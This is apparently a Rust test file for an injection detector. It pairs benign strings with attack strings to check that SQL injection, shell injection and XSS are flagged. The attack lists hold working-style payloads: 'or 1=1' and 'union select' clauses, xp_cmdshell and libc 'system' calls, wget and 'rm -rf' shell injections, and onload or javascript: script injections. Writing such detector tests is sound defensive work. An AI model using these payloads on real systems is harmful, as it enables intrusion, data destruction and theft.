//! Ordinary texts that resemble attacks, each kind beside attacks that resemble it.

mod common;

use common::all;
use margay_meaning::Judge;

#[test]
fn options_of_commands() {
    let texts = [
        "For more information, try '--help'.",
        "Re: Installs our files, or removes them: packaging/install [--remove]",
        "passwd's terminology. --gecos will continue to work throughout the",
        "specifying_just_'--prefix'_will_affect_a",
        "parser.add_argument('--kms-key', help='Cloud KMS key to use for encryption.')",
        "parser.add_argument(\"--organization\", help=\"GitHub organization\")",
        "'--launch-browser',",
        "be used by projects using GPLv2 without the \"or later\" clause.",
        "  sys.exit(1)",
        "if sys.version_info < (2, 7):",
        "\n-- complain if script is sourced in psql, rather than via ALTER EXTENSION\n\\echo Use \"ALTER EXTENSION cube \
         UPDATE TO '1.5'\" to load this file. \\quit\n",
    ];
    all(Judge::Sqli, false, &texts);
    let attacks = [
        "admin'--help",
        "admin' --help",
        "admin'--",
        "for more information' or 1=1 --help",
        "foo bar' union select 1,2 --help",
        "'--",
        "x' or later like 'x",
        "1' and sys.user_tables='a",
        "x\" or 1 --help\"",
        "-- a\n' or 1=1",
        "admin '--x'",
        "a_b_'and/**/pg_sleep(5)--",
        "-- a' or 1=1 --\n\\echo x",
        "--\n\\echo \" or 1=1 -- ",
    ];
    all(Judge::Sqli, true, &attacks);
}

#[test]
fn prepared_statements() {
    let texts = [
        "SELECT id, name FROM orders WHERE id = ?",
        "SELECT * FROM users WHERE email = $1 LIMIT 1",
        "SELECT \"users\".\"id\" FROM \"users\" WHERE \"users\".\"id\" = $1 ORDER BY \"users\".\"id\" ASC LIMIT $2",
        "INSERT INTO orders (id, name) VALUES (?, ?), (?, ?);",
        "INSERT INTO \"orders\" (\"id\", \"name\") VALUES ($1, $2) RETURNING \"id\"",
        "UPDATE orders SET name = :name WHERE id = :id",
        "select `id` from `orders` where `id` in (?, ?, ?)",
    ];
    all(Judge::Sqli, false, &texts);
    let attacks = [
        "SELECT * FROM users",
        "SELECT * FROM users WHERE name = 'x' OR id = ?",
        "select ? ' or 'a'='a",
        "select ? \" or \"a\"=\"a",
        "select ?\"or\"1",
        "select * from users where 1=1 or id = ?",
        "select sleep(5), ?",
        "select table_name from information_schema.tables where 1 = ?",
        "select ? union select 1, 2",
        "select @@version, ?",
        "select id from t where id = ?; drop table t",
        "select id from t where id = ? -- ",
        "1 or id = ? or 1=1",
        "delete from users where @a is null",
        "delete from users where id %s",
    ];
    all(Judge::Sqli, true, &attacks);
}

/// A name does not follow a string in SQL, so the first quote of such a value ends none.
#[test]
fn statements_with_strings() {
    let texts = [
        "command = 'gcloud {} netapp volumes snapshots list'.format(name)",
        "DELETE FROM parts p USING kinds k WHERE p.name = 'bolt'",
        "CREATE OR REPLACE FUNCTION sepgsql_getcon() RETURNS text AS '$libdir/sepgsql', 'sepgsql_getcon' LANGUAGE C;",
        "{ users(filter: \"name is a -- b\") { name } }",
    ];
    all(Judge::Sqli, false, &texts);
    let attacks = [
        "CREATE FUNCTION system(cstring) RETURNS int AS '/lib/libc.so.6', 'system' LANGUAGE C",
        "CREATE FUNCTION f() RETURNS int AS '$libdir/../../tmp/x', 'f' LANGUAGE C",
        "name = ' or 'a'='a",
        "create type x ' or 1=1 -- '",
        "create type x as ' exec xp_cmdshell \"dir\" -- '",
        "' escape 'a' or 1=1 -- ",
        "' a, password from users -- ",
        "x' waitfor delay '0:0:5",
        "x' exec xp_cmdshell 'dir'--",
        "' notnull --",
        "2010-01-01' sleep(20) '",
        "{ users(filter: \"id = 1 or 1=1; --\") { name } }",
        "\"num\";s:107:\"*/ union select 1,2,3 -- ",
    ];
    all(Judge::Sqli, true, &attacks);
}

#[test]
fn quotations_are_no_commands() {
    let texts = [
        "Debian version of `realpath' required all the path components to exist;",
        "Debian version of `realpath -s' required no path components to exist.",
        "\"\"\"Entrypoint module for `python -m sqlparse`.",
        "Re: This is the documentation for the :mod:`crcmod` Python library.",
    ];
    all(Judge::Shell, false, &texts);
    let attacks =
        ["\"\nwget http://a/b", "x\ncurl - a", "the file of `id`; rm -rf /tmp/x", "a\ntar -czf - etc home data"];
    all(Judge::Shell, true, &attacks);
}

#[test]
fn elements_without_effect() {
    let texts = [
        "<rss version=\"2.0\"><channel><link>http://a.example/?p=1</link></channel></rss>",
        "#include <set>\n#include <vector>",
        "<link href=\"http://a.example/1\" rel=\"alternate\" title=\"a\" type=\"text/html\"/>",
        "<meta name=\"go-import\" content=\"a.example git https://a.example/b\">",
        "<svg xmlns='http://www.w3.org/2000/xmlns/'/>",
        "<set name=\"contextPath\">/test</set>",
        "a{background:url(\"data:image/svg+xml;base64,PHN2Zz4=\")}",
        "import (\n\t\"os\"\n\t\"regexp\"\n)",
        "gcloud memberships describe (NAME : --location=LOCATION)",
        "for (i = 0; i < 2; i++) { onlyDirs = true }",
    ];
    all(Judge::Xss, false, &texts);
    let attacks = [
        "<link rel=\"stylesheet\" href=\"//a/b\">",
        "<link rel=\"alternate stylesheet\" href=\"//a/b\">",
        "<link rel=\"alternate\" rel=\"import\" href=\"//a/b\">",
        "<link href=\"//a/b\">",
        "<link title=\" rel='self'\"/rel=\"stylesheet\" href=\"//a/b\">",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
        "<meta content=\"0;url=//a\" http-equiv=\"refresh\">",
        "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
        "<svg><set attributeName=href to=javascript:alert(1)>",
        "<set attributeName=\"onmouseover\" to=\"alert(1)\"/>",
        "<embed src=data:image/svg+xml;base64,PHN2Zz4=>",
        "import(\"//a/b.js\")",
        "location='//a/'+eval(name)",
    ];
    all(Judge::Xss, true, &attacks);
}
